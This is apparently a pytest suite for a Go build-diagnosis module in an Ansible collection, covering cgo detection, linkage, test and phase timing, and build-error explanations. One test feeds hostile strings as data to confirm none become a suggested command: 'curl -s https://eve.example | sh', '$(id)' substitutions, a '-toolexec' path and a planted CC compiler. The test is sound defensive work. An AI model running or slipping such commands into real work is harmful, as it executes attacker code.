# Copyright (c) 2026 wsltune contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)

from __future__ import annotations

import json
from typing import Any

import pytest

from ansible_collections.wsltune.go.plugins.module_utils.doctor import check as doctor_check
from ansible_collections.wsltune.go.plugins.module_utils.doctor import module as doctor_module
from ansible_collections.wsltune.go.plugins.module_utils.doctor import phases as doctor_phases
from ansible_collections.wsltune.go.plugins.module_utils.levers import catalogue
from ansible_collections.wsltune.go.plugins.module_utils.linux import text


def row(
    path: str,
    imports: str = "",
    cgo: str = "",
    dependency: bool = True,
    standard: bool = False,
    module: str = "",
    name: str = "x",
) -> str:
    return "\t".join(
        [path, str(standard).lower(), name, str(dependency).lower(), cgo, imports, f"/src/{path}", module, "70"]
    )


SQLITE = "github.com/mattn/go-sqlite3"
LISTING = "\n".join(
    [
        row("runtime/cgo", cgo="cgo.go", standard=True),
        row("net", "runtime/cgo", "cgo_linux.go", standard=True),
        row(SQLITE, "runtime/cgo net", "backup.go sqlite3.go", module=SQLITE),
        row("example.com/app/store", f"database/sql {SQLITE}", dependency=False, module="example.com/app"),
        row("example.com/app", "example.com/app/store net", dependency=False, module="example.com/app", name="main"),
        row("example.com/app [example.com/app.test]", "testing", dependency=False, module="example.com/app"),
        row("example.com/app.test", "testing", dependency=False, name="main"),
    ]
)


def test_the_listing_counts_a_package_once() -> None:
    packages = doctor_module.parse_listing(LISTING + "\nnot a row\n")
    assert [one.path for one in doctor_module.select_own(packages)] == ["example.com/app/store", "example.com/app"]
    app = packages[-1]
    assert app.imports == ("example.com/app/store", "net", "testing")


def test_how_much_work_it_is() -> None:
    assert doctor_module.read_work({"modules": [{"listing": LISTING}]}) == doctor_check.Work(2, 140, 5)
    assert doctor_module.read_work({}) == doctor_module.read_work({"modules": [{"listing": ""}]}) == doctor_check.Work()


def test_why_a_package_is_there() -> None:
    packages = doctor_module.parse_listing(LISTING)
    assert doctor_module.find_way(packages, SQLITE) == ["example.com/app/store", SQLITE]
    assert doctor_module.find_way(packages, "example.com/nowhere") == []


def test_cgo_is_named_with_its_reason_and_ways_out() -> None:
    check = doctor_module.judge_cgo(doctor_module.parse_listing(LISTING), enabled=True)
    assert f"1 package needs cgo: {SQLITE} (example.com/app/store imports {SQLITE})" in check.reason
    (found,) = check.details["packages"]
    assert found["files"] == ["backup.go", "sqlite3.go"]
    told = "\n".join(found["options"])
    assert "modernc.org/sqlite" in told
    assert "'//go:build cgo'" in told and "'//go:build !cgo'" in told
    assert f"replace {SQLITE} => ./third_party/go-sqlite3" in told and f"'module {SQLITE}'" in told


def test_cgo_of_the_standard_library_alone_is_no_need() -> None:
    packages = [one for one in doctor_module.parse_listing(LISTING) if one.standard or one.path == "example.com/app"]
    check = doctor_module.judge_cgo(packages, enabled=True)
    assert check.status == "ok" and "No package" in check.reason and "net of Go's own" in check.reason


def test_a_module_that_is_written_with_cgo_itself() -> None:
    package = doctor_module.parse_listing(row("example.com/native", cgo="main.go", dependency=False))
    check = doctor_module.judge_cgo(package, enabled=False)
    assert "example.com/native itself" in check.reason and "before main.go" in check.command and not check.lever


@pytest.mark.parametrize(
    ("path", "package"),
    [
        (SQLITE, "modernc.org/sqlite"),
        ("github.com/confluentinc/confluent-kafka-go/v2/kafka", "github.com/twmb/franz-go"),
        ("github.com/mattn/go-sqlite3x", None),
        ("example.com/unknown", None),
    ],
)
def test_alternatives_go_by_whole_path_elements(path: str, package: str | None) -> None:
    found = doctor_module.find_alternative(path)
    assert (found[1].package if found else None) == package


def test_without_cgo() -> None:
    packages = doctor_module.parse_listing(LISTING)
    passes = doctor_module.judge_without_cgo({"build": "", "vet": ""}, packages, True)
    assert (
        passes.status == "ok"
        and "Built so, a program differs: names are looked up in files and DNS" in passes.reason
        and "plugin" not in passes.reason
    )
    assert "Nothing changes" in doctor_module.judge_without_cgo({"build": "", "vet": ""}, [], True).reason
    error = "# example.com/app/store\nstore.go:7:2: undefined: sqlite3.Error"
    fails = {"build": error, "vet": ""}
    allowed = doctor_module.judge_without_cgo(fails, packages, True)
    assert allowed.status == "ok" and "store.go:7:2: undefined: sqlite3.Error" in allowed.reason
    # The lever is for a module that can do without.
    assert passes.lever == "cgo_disabled" and not allowed.lever
    broken = doctor_module.judge_without_cgo(fails, packages, False)
    assert not broken.lever
    assert broken.status == "critical" and broken.blocks and broken.command == "go env -u CGO_ENABLED"
    assert "go vet" in doctor_module.judge_without_cgo({"build": "", "vet": error}, packages, True).reason
    assert doctor_module.judge_without_cgo(None, packages, True).status == "unknown"
    assert doctor_module.judge_without_cgo({"build": "no time"}, packages, True).status == "unknown"


def test_linkage() -> None:
    programs = {
        "a": {"static": True, "interpreter": None, "libraries": []},
        "b": {"static": False, "interpreter": "/lib64/ld-linux-x86-64.so.2", "libraries": ["libc.so.6"]},
        "c": {"error": "the file is not an ELF file."},
    }
    reason = doctor_module.judge_linkage(programs).reason
    assert "a is static" in reason and "b needs ld-linux-x86-64.so.2 and libc.so.6" in reason and "no" in reason
    assert "no program" in doctor_module.judge_linkage({}).reason


@pytest.mark.parametrize(
    ("output", "command"),
    [
        ("a.go:3:8: no required module provides package a.example/$(id); to add it:", "go get 'a.example/$(id)'"),
        (
            "go: cannot load module ./b`id` listed in go.work file: open",
            "go work edit -dropuse='./b`id`'   (or get that folder)",
        ),
        ("# a\n./a.go: #error\n\tgo work use .; curl -s https://eve.example | sh", ""),
        ("a.go:3:8: no required module provides package -toolexec=/home/eve/x; to add it:", ""),
        ("# a\n./a.go: #error\n\tgo get $(id)", ""),
        ("# a\n./a.go: #error\n\tgo get -toolexec=/home/eve/x ./...", ""),
        ("# a\n./a.go: #error\n\tgo env -w CC=/home/eve/cc", ""),
        ("# a\n./a.go: wrong\n\tgo get -u example.com/x@v1.2.3 ./...  ", "go get -u example.com/x@v1.2.3 ./..."),
    ],
)
def test_nothing_that_a_module_prints_is_more_than_words_of_a_command(output: str, command: str) -> None:
    """The command is there to be copied into a shell, perhaps root's, and the module may be another account's."""
    assert doctor_module.explain("go build failed", output)[1] == command


@pytest.mark.parametrize(
    ("output", "said", "command"),
    [
        (
            "go: example.com/x@v1.0.0: module lookup disabled by GOPROXY=off",
            "example.com/x is not in",
            "go mod download",
        ),
        ("a.go:3:8: no required module provides package example.com/y; to add it:", "example.com/y", "go get example"),
        (
            "missing go.sum entry for module providing package example.com/z (imported by a)",
            "example.com/z",
            "go mod t",
        ),
        ("missing go.sum entry for go.mod file; to add it:\n\tgo mod download example.com/z", "go.sum", "go mod tidy"),
        (
            "g.go:3:8: cannot find module providing package example.com/own/pb: import lookup disabled by -mod=vendor",
            "example.com/own/pb is a package of the module itself that is not there",
            "go generate ./...   (or run what makes it",
        ),
        (
            "g.go:3:8: package example.com/own/pb is not in std (/usr/lib/go/src/x)",
            "module itself",
            "go generate ./...",
        ),
        (
            "g.go:3:8: package example.com/owner is not in std",
            "go build failed: g.go:3:8: package example.com/owner",
            "",
        ),
        (
            "main.go:5:12: pattern web/dist/*: no matching files found",
            "web/dist/*",
            "go generate ./...   (or run what makes web/dist/*",
        ),
        (
            "go: inconsistent vendoring in /v:\n\tx@v1: is explicitly required in go.mod\n\n\tTo sync it",
            "inconsistent vendoring in /v: x@v1: is explicitly required in go.mod",
            "go mod vendor",
        ),
        (
            "Package gtk+-3.0 was not found in the pkg-config search path.",
            "library gtk+-3.0",
            "search:gtk+-3.0",
        ),
        ('# pkg-config: exec: "pkg-config": executable file not found in $PATH', "pkg-config", "install:pkg-"),
        ("go: updates to go.mod needed; to update it:\n\tgo mod tidy", "updates to go.mod", "go mod tidy"),
        (
            "go: downloading go1.99.0 (linux/amd64)\ngo: download go1.99.0 for linux/amd64: toolchain not available",
            "needs Go 1.99.0, which is not in the module cache",
            "go version",
        ),
        ("go: go.mod requires go >= 1.99 (running go 1.24.4; GOTOOLCHAIN=local)", "needs Go 1.99", "install that Go"),
        ('cgo: C compiler "gcc" not found: exec: "gcc"', "no C compiler (gcc)", "install:cgo"),
        (
            "go: module . listed in go.work file requires go >= 1.23, but go.work lists go 1.22; to update:\n\tgo work",
            "but go.work lists go 1.22",
            "go work use",
        ),
        (
            "go: cannot load module ../b listed in go.work file: open ../b/go.mod: no such file or directory",
            "go.work lists ../b, which is not there",
            "go work edit -dropuse=../b",
        ),
        (
            "go: example.com/a@v0.0.0 (replaced by ../a): reading ../a/go.mod: open /x/a/go.mod: no such file",
            "go.mod replaces example.com/a by a folder that is not there",
            "go mod edit -dropreplace=example.com/a",
        ),
        (
            "# x\n./a.go:4:11: fatal error: sqlite3.h: No such file or directory\n    4 | #include <sqlite3.h>",
            "cgo needs the header sqlite3.h, which is not installed",
            "install the development package",
        ),
        (
            "/usr/bin/ld: cannot find -lsqlite3: No such file or directory\ncollect2: error: ld returned 1",
            "cgo needs the C library sqlite3, which is not installed",
            "install the development package",
        ),
        ("go: parsing $GOFLAGS: unknown flag -mod2", "unknown flag -mod2", "go env -u GOFLAGS"),
        # What Go itself says is to be done.
        (
            "the module is not one of those listed in go.work. You can add the module using:\n\tgo work use .",
            "listed in go.work",
            "go work use .",
        ),
        (
            "go: errors parsing go.mod:\n/x/go.mod:5: unknown directive: toolchian",
            "go: errors parsing go.mod: /x/go.mod:5: unknown directive: toolchian",
            "",
        ),
        (
            "go: finding module for package a\ngo: extracting x\npattern ./...: directory prefix . has no module",
            "failed: pattern ./...: directory prefix",
            "",
        ),
        ("# example.com/x\nmain.go:5:2: undefined: y", "failed: main.go:5:2: undefined: y", ""),
        ("", "go build failed", ""),
    ],
)
def test_what_stands_in_the_way_is_one_sentence(output: str, said: str, command: str) -> None:
    reason, answer = doctor_module.explain("go build failed", output, ["example.com/own"])
    assert said in reason and "\n" not in reason and answer.startswith(command)


def test_code_that_a_generator_makes_is_made_by_it() -> None:
    output = "g.go:3:8: no required module provides package example.com/own/pb; to add it:\n\tgo get example.com/own/pb"
    assert doctor_module.explain("x", output, ["example.com/own"], generates=True)[1] == "go generate ./..."
    trouble = {"directory": "/src/my app", "trouble": "go list ./... failed", "output": output, "generates": True}
    check = doctor_module.judge_tests({**trouble, "module_paths": ["example.com/own"]})
    assert check.command == "cd '/src/my app' && go generate ./..."


def test_the_whole_of_a_message_is_kept() -> None:
    output = "go: downloading x\ngo: a:\n\tb\n\t\tc\n\n\td\n"
    assert doctor_module.find_first_error(output) == "go: a: b c"


def test_a_folder_without_packages_fails_nothing() -> None:
    one = {"directory": "/x", "trouble": "there is no package", "empty": True, "listing": ""}
    assert doctor_module.judge_tests(one).status == "unknown"


def test_cgo_that_the_environment_turns_off_is_turned_on_there() -> None:
    fails = {"build": "x", "vet": ""}
    assert doctor_module.judge_without_cgo(fails, [], False, "user file").command == "go env -u CGO_ENABLED"
    assert doctor_module.judge_without_cgo(fails, [], False, "environment").command.startswith("unset CGO_ENABLED ")


def event(second: float, action: str, test: str = "", package: str = "p", **more: Any) -> str:
    told = {"Time": f"2026-11-24T10:00:{second:012.9f}+01:00", "Action": action, "Package": package, **more}
    return json.dumps({**told, "Test": test} if test else told)


EVENTS = "\n".join(
    [
        event(0.0, "start"),
        event(0.1, "run", "TestSerial"),
        event(0.1, "run", "TestParallel"),
        event(0.2, "pause", "TestParallel"),
        "FAIL something that is no JSON",
        event(2.1, "pass", "TestSerial"),
        event(2.2, "cont", "TestParallel"),
        event(2.5, "output", "TestParallel", Output="hello"),
        event(2.7, "pass", "TestParallel"),
        event(2.8, "run", "TestHangs"),
        event(2.9, "pass"),
    ]
)


def test_the_queue_of_parallel_tests_is_no_time_of_theirs() -> None:
    serial, parallel, hangs = doctor_module.read_test_times(EVENTS)
    assert (serial.own, serial.paused, serial.outcome) == (pytest.approx(2.0), 0.0, "pass")
    assert (parallel.own, parallel.paused) == (pytest.approx(0.6), pytest.approx(2.0))
    assert hangs.outcome == ""


def test_what_tests_wait_for() -> None:
    check = doctor_module.judge_waits({"events": EVENTS})
    assert "TestSerial takes longest, 2.00 s" in check.reason
    assert "2.00 s between pause and cont are t.Parallel's queue, not I/O" in check.reason
    assert doctor_module.judge_waits({"events": event(1.0, "pass")}).status == "ok"
    quick = "\n".join([event(1.0, "run", "TestQuick"), event(1.004, "pass", "TestQuick")])
    assert doctor_module.judge_waits({"events": quick}).reason == "No test takes 0.05 s of its own."


def test_times_of_either_zone_and_any_precision() -> None:
    one = [event(1.0, "run", "T").replace("01.000000000+01:00", "01Z"), event(0.0, "pass", "T").replace("+01:00", "Z")]
    assert doctor_module.read_test_times("\n".join(one))[0].own == pytest.approx(-1.0)
    with pytest.raises(ValueError, match="yesterday"):
        doctor_phases.parse_moment("yesterday")


def action(mode: str, began: float, ended: float, package: str = "p", command: bool = True) -> dict[str, Any]:
    times = {f"Time{name}": f"2026-11-24T10:00:{value:012.9f}Z" for name, value in (("Start", began), ("Done", ended))}
    return {"Mode": mode, "Package": package, "Cmd": ["compile"] if command else None, **times}


ACTIONS = [
    action("build", 0.0, 2.0, "fmt"),
    action("build", 0.0, 0.01, "os", command=False),
    action("build", 2.0, 2.5, "p.test"),
    action("vet", 1.0, 1.5),
    action("link", 3.0, 5.0, "p.test"),
    action("test run", 5.0, 5.25),
    action("cgo compile x.c", 5.0, 5.5),
    action("build check cache", 0.0, 0.125),
    action("go test", 0.0, 9.0),
    {"Mode": "test print", "Package": "p", "TimeStart": "0001-01-01T00:00:00Z", "TimeDone": "0001-01-01T00:00:00Z"},
]


def test_time_by_phase() -> None:
    """What runs at the same time shares the clock, and what no action takes is Go looking for something."""
    spent = doctor_phases.measure_on_the_clock(ACTIONS, 6.0)
    lookups = 0.01 * 2 / 3 + 0.115 / 2 + 0.5 + 0.5
    expected = {"vet": 0.25, "link": 2.0, "run": 0.125, "look-ups": lookups, "compile": 6.0 - 2.375 - lookups}
    assert spent == pytest.approx(expected, abs=1e-3)
    assert sum(doctor_phases.measure_on_the_clock(ACTIONS).values()) == pytest.approx(5.0, abs=1e-3)
    assert doctor_module.list_compiled(ACTIONS) == ["fmt"]


def test_a_cache_that_does_not_hold_is_a_finding() -> None:
    first = doctor_module.judge_phases({"actions": ACTIONS})
    assert first.status == "ok" and "link 40%" in first.reason
    again = doctor_module.judge_phases({"actions": ACTIONS, "first": {"wall": 9.0}})
    assert (
        again.status == "warning"
        and "compiles 1 packages again" in again.reason
        and again.seconds == again.details["seconds"]["compile"]
    )
    assert doctor_module.judge_phases({"actions": None}).status == "unknown"


def test_the_phase_that_leads_has_its_levers() -> None:
    edited = {"package": "p/core", "wall": 4.0, "actions": [action("build", 0.0, 3.5), action("link", 3.5, 4.0)]}
    check = doctor_module.judge_phases({"actions": ACTIONS[4:5], "wall": 2.2}, edited)
    assert check.reason == (
        "Of 2.2 s of go test: link 91%, look-ups 9%. "
        f"Levers for link: {text.join_names(doctor_phases.list_levers('link'))}. "
        "After an edit of p/core, of 4.0 s: compile 88%, link 12%. "
        f"Levers for compile: {text.join_names(doctor_phases.list_levers('compile'))}."
    )
    assert [one["longest"] for one in check.details["phases"]] == ["link", "compile"]
    without = doctor_module.judge_phases({"actions": ACTIONS[4:5]}, {"reason": "no time"}, list(catalogue.LEVERS))
    assert (
        "No lever acts on link here." in without.reason and "after an edit was not measured: no time." in without.reason
    )


def test_levers_that_are_tried_unasked_come_first() -> None:
    for phase in catalogue.PHASES:
        asked = [catalogue.LEVERS[name].on_request for name in doctor_phases.list_levers(phase)]
        assert asked == sorted(asked)


def test_phases_that_take_about_as_long_are_not_told_apart() -> None:
    assert doctor_phases.find_longest({"link": 1.0, "run": 0.95, "vet": 0.0}) == ""
    assert doctor_phases.advise({"link": 1.0, "run": 0.95}) == "No phase stands out"
    assert doctor_phases.find_longest({"link": 0.0, "run": 0.0}) == ""


def test_levers_whose_place_lies_well_are_not_named() -> None:
    seen: dict[str, Any] = {"places": {"TMPDIR": {"fstype": "tmpfs"}, "GOTMPDIR": {"fstype": "tmpfs"}}, "path": []}
    useless = doctor_module.list_useless_levers(seen)
    assert {"gotmpdir_tmpfs", "caches_local", "source_on_ext4", "append_windows_path"} <= set(useless)
    seen = {"places": {"GOCACHE": {"windows_drive": True}}, "path": [{"windows_drive": True}]}
    useless = doctor_module.list_useless_levers(seen)
    assert not {"gotmpdir_tmpfs", "caches_local", "append_windows_path"} & set(useless)


STRACE = """\
% time     seconds  usecs/call     calls    errors syscall
------ ----------- ----------- --------- --------- ----------------
 51.10    0.500000          50     10269           fcntl
 10.00    0.100000          18      5501       612 newfstatat
  1.00    0.010000           4      2544        12 openat
------ ----------- ----------- --------- --------- ----------------
100.00    0.610000          33     18314       624 total
"""


def test_system_calls() -> None:
    assert doctor_module.parse_calls(STRACE) == {"fcntl": (10269, 0), "newfstatat": (5501, 612), "openat": (2544, 12)}
    check = doctor_module.judge_calls({"package": "p", "table": STRACE})
    assert check.value == 8045 and "5501 newfstatat" in check.reason
    assert doctor_module.judge_calls({"reason": "strace is not installed"}).status == "unknown"
    assert (
        doctor_module.judge_calls({"package": "p", "table": ""}).status
        == doctor_module.judge_calls(None).status
        == "unknown"
    )


def module(**test: Any) -> dict[str, Any]:
    plain = {
        "code": 0,
        "timed_out": False,
        "stopped": False,
        "wall": 3.0,
        "limit": 60.0,
        "events": EVENTS,
        "err": "",
        "actions": ACTIONS,
        "peak": 0,
        "output_bytes": 0,
        "peak_gotmpdir": 0,
    }
    return {
        "directory": "/src/app",
        "trouble": "",
        "listing": LISTING,
        "test": {**plain, **test},
        "programs": {},
        "without_cgo": {"build": "", "vet": ""},
    }


def test_tests_that_pass_are_looked_into() -> None:
    assert [check.id for check in doctor_module.judge_module(module(), True)] == [
        "WT-060",
        "WT-061",
        "WT-063",
        "WT-062",
        "WT-064",
        "WT-065",
        "WT-066",
    ]


@pytest.mark.parametrize(
    ("test", "said"),
    [
        ({"timed_out": True, "code": -9}, "did not end within 60 s; TestHangs still ran"),
        ({"stopped": True, "code": -9, "peak": 3 << 30}, "wrote 3072 MiB of temporary files and were ended"),
        ({"stopped": True, "code": -9, "output_bytes": 300 << 20}, "printed 300 MiB and were ended"),
        ({"code": 1, "events": event(1.0, "fail", "TestX")}, "TestX in p failed"),
        ({"code": 1, "events": event(1.0, "fail")}, "p failed"),
        ({"code": 1, "events": "", "err": "# p\na.go:1:1: expected 'package'"}, "a.go:1:1: expected 'package'"),
    ],
)
def test_tests_that_do_not_pass_are_one_sentence_and_never_compared(test: dict[str, Any], said: str) -> None:
    checks = doctor_module.judge_module(module(**test), True)
    assert checks[0].status == "critical" and said in checks[0].reason and checks[0].reason.count(". ") == 0
    assert not {"WT-064", "WT-065", "WT-066"} & {check.id for check in checks}


def test_a_module_that_cannot_be_looked_at() -> None:
    (check,) = doctor_module.judge_module({"directory": "/x", "trouble": "/x cannot be read: Permission denied"}, True)
    assert check.blocks and check.reason == "/x was not measured: /x cannot be read: Permission denied."
    # What made it impossible is told before that it was.
    assert doctor_check.rank([check, doctor_check.Check("WT-006", "critical", "noexec", blocks=True)])[0].id == "WT-006"


def test_no_module_is_said_once() -> None:
    (check,) = doctor_module.judge({"modules": [], "go": {"settings": {}}})
    assert (check.id, check.status) == ("WT-060", "unknown")
    assert doctor_module.judge({"go": {"settings": {}}}) == []
